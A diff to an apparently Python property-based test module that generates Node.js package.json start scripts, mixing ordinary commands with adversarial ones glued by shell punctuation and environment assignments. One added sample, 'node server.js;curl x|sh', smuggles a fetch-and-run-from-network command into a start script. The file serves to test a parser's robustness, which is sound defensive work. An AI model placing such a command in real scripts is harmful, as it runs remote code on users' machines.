@@ -169,13 +169,53 @@ PLAUSIBLE_SCRIPTS = [
     "webpack --mode production",
     "vite build",
     "fastify start -l info app.js",
+    "node server.js;curl x|sh",
+    "node migrate.js\nnode server.js",
+    "NODE_OPTIONS=--max-old-space-size=4096 node server.js",
+    "NODE_ENV=production node dist/main.js",
+    "cross-env PORT=3000 node x.js",
+    "env FOO=1 node x.js",
+    "export FOO=1 && exec node server.js",
+    "npm run serve -- --port 4000",
 ]
+#: Shell punctuation glued to words (issue 18, class 12): `node server.js;curl x|sh`.
+_GLUE = [";", "&&", "||", "|", "&", ">", ">>", "<", "2>&1", ";;", "(", ")", "\n", "\r\n", "#", "\\\n", " "]
+_ENV_NAMES = ["NODE_OPTIONS", "NODE_ENV", "PORT", "TZ", "DEBUG", "A_1", "1A", "PATH"]
+
+
+def _glued_script() -> st.SearchStrategy[str]:
+    """Commands glued with shell punctuation, quoted or not, after variable assignments."""
+    word = st.one_of(st.sampled_from(["node", "server.js", "curl", "x", "sh", "npm", "run", "serve"]),
+                     hostile_text(3).map(shlex.quote), hostile_text(3))  # fmt: skip
+    assignment = st.tuples(st.sampled_from(_ENV_NAMES), st.one_of(hostile_text(3), st.just("1"))).map(
+        lambda t: f"{t[0]}={shlex.quote(t[1])}"
+    )
+    prefix = st.lists(
+        st.one_of(assignment, st.sampled_from(["cross-env", "env", "exec", "export A=1 &&"])), max_size=3
+    ).map(" ".join)
+    parts = st.lists(st.tuples(word, st.sampled_from(_GLUE)), min_size=1, max_size=5)
+    return st.tuples(prefix, parts).map(lambda t: f"{t[0]} node " + "".join(f"{w}{g}" for w, g in t[1]))
+
+
+def _env_script() -> st.SearchStrategy[str]:
+    """`NAME=value ... node server.js`: variables for the app (start_env), plausible or hostile, quoted."""
+    value = st.one_of(
+        st.sampled_from(["--max-old-space-size=4096", "production", "a b", "", "x:y/z?q=1&r=#", "4000"]),
+        single_line_hostile_text(3),
+    )
+    assignment = st.tuples(st.sampled_from(_ENV_NAMES), value).map(lambda t: f"{t[0]}={shlex.quote(t[1])}")
+    prefix = st.sampled_from(["", "cross-env ", "env ", "exec "])
+    return st.tuples(st.lists(assignment, min_size=1, max_size=3), prefix).map(
+        lambda t: f"{' '.join(t[0])} {t[1]}node server.js"
+    )
 
 
 def _script() -> st.SearchStrategy[str]:
     """A package.json script; `node <quoted hostile>` carries any string into the start command."""
     return st.one_of(
         st.sampled_from(PLAUSIBLE_SCRIPTS),
+        _glued_script(),
+        _env_script(),
         hostile_text().map(lambda s: "node " + shlex.quote(s)),
         st.lists(hostile_text(4), min_size=1, max_size=4).map(
             lambda words: "node " + " ".join(shlex.quote(w) for w in words)
@@ -213,7 +253,7 @@ package_json = st.fixed_dictionaries(
         "scripts": st.one_of(
             st.dictionaries(
                 st.sampled_from(["start", "build", "dev", "start:prod", "serve", "prod", "postinstall"]),
-                _script(),
+                st.one_of(_script(), _script(), json_values),  # (a wrong-typed entry now and then)
                 max_size=5,
             ),
             json_values,
@@ -850,6 +890,15 @@ def node_trees(draw: st.DrawFn, *, raw: bool = True) -> Tree:
     tree.update(draw(workspace_members))
     tree.update(draw(_hostile_source_files(".js", server_js)))
     return tree
+
+
+@st.composite
+def start_script_trees(draw: st.DrawFn) -> Tree:
+    """A Node.js app whose start script sets variables or glues commands with shell punctuation."""
+    scripts = {"start": draw(st.one_of(_env_script(), _glued_script()))}
+    scripts |= draw(st.fixed_dictionaries({}, optional={"serve": _env_script(), "web": _env_script()}))
+    manifest = {"name": "app", "main": draw(st.sampled_from(["main.js", "server.js"])), "scripts": scripts}
+    return {"package.json": _json_doc(manifest), "server.js": b"app.listen(process.env.PORT || 3000)\n"}
 
 
 @st.composite
